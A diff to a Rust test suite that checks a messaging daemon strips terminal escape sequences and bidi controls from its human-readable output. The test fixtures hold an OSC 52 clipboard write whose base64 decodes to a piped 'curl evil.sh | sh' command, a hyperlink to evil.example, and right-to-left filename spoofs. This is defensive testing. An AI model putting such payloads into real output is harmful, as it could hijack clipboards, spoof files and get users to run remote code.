@@ -1,7 +1,7 @@
 //! Terminal escape injection (issue 15 item 8), between real daemons on 127.0.0.1: a message
 //! body full of escape sequences (CSI colours and cursor moves, an OSC 8 hyperlink, an OSC 52
-//! clipboard write) and a right-to-left override, an invite note and an alias with bidi
-//! controls. No human output (`history`, `inbox`, `watch`, `invites`, `connections`) may carry
+//! clipboard write) and a right-to-left override, and an alias with bidi controls; an invite
+//! note with bidi controls is refused at the source. No human output (`history`, `inbox`, `watch`, `invites`, `connections`) may carry
 //! a raw control or bidi character to the terminal; `--json` returns the exact text.
 
 use std::io::{BufRead, BufReader};
@@ -19,9 +19,11 @@ const HOSTILE_BODY: &str = "\u{1b}[31mred\u{1b}[0m \u{1b}[2J\u{1b}[1;1Hmoved \
     \u{1b}]8;;https://evil.example/\u{1b}\\click me\u{1b}]8;;\u{1b}\\ \
     \u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{7}\nline two \u{9b}2J safe\roverwritten \
     invoice\u{202E}fdp.exe";
-/// An invite note: the daemon refuses control characters in notes but not bidi controls.
+/// An invite note with bidi controls: the daemon refuses it, as it refuses control characters.
 const HOSTILE_NOTE: &str = "hello \u{202E}\u{2066}txt.exe\u{2069}";
-/// An alias: the same rule as notes.
+/// The note sent instead: right-to-left text itself is fine, only formatting characters are not.
+const NOTE: &str = "hello — שלום ✓";
+/// An alias: local to B, so its bidi controls reach only the output, which must clean them.
 const HOSTILE_ALIAS: &str = "bob\u{202E}gpj.exe";
 
 /// Whether `c` must never reach the terminal: a control character other than the newline
@@ -115,8 +117,15 @@ fn hostile_text_never_reaches_the_terminal_raw_but_json_stays_exact() {
     let a = Daemon::start_with_config(&dir.path("a"), NO_DHT, &[]);
     let b = Daemon::start_with_config(&dir.path("b"), NO_DHT, &["--bootstrap", &a.tcp_addr()]);
     b.wait_for_peer(&a.id, ARRIVAL);
+    let refused = a.run(&["connect", &b.id, "--note", HOSTILE_NOTE]);
+    assert_eq!(refused.status.code(), Some(1), "a bidi note was accepted");
+    assert!(
+        stderr(&refused).contains("bidirectional formatting character"),
+        "{}",
+        stderr(&refused)
+    );
     // The helper checks through --json that the note arrives exactly as written.
-    invite_and_accept(&a, &b, HOSTILE_NOTE);
+    invite_and_accept(&a, &b, NOTE);
     let alias = b.json(&["alias", &a.id, HOSTILE_ALIAS]);
     assert_eq!(alias["alias"], HOSTILE_ALIAS, "{alias}");
 
@@ -145,10 +154,7 @@ fn hostile_text_never_reaches_the_terminal_raw_but_json_stays_exact() {
         .unwrap_or_else(|| panic!("message {id} not in b's history"));
     assert_eq!(str_of(hostile, "body"), HOSTILE_BODY);
     let invites = b.invites("--incoming");
-    assert!(
-        invites.iter().any(|i| i["note"] == HOSTILE_NOTE),
-        "{invites:?}"
-    );
+    assert!(invites.iter().any(|i| i["note"] == NOTE), "{invites:?}");
     let connections = b.connections();
     assert!(
         connections.iter().any(|c| c["alias"] == HOSTILE_ALIAS),
@@ -176,7 +182,7 @@ fn hostile_text_never_reaches_the_terminal_raw_but_json_stays_exact() {
         assert!(!text.trim().is_empty(), "accord {args:?} printed nothing");
     }
     let invites = human(&b, &["invites"]);
-    assert!(invites.contains("txt.exe"), "{invites:?}");
+    assert!(invites.contains("שלום"), "{invites:?}");
     let renamed = human(&b, &["alias", &a.id, HOSTILE_ALIAS]);
     assert_terminal_safe("alias", &renamed);
 }
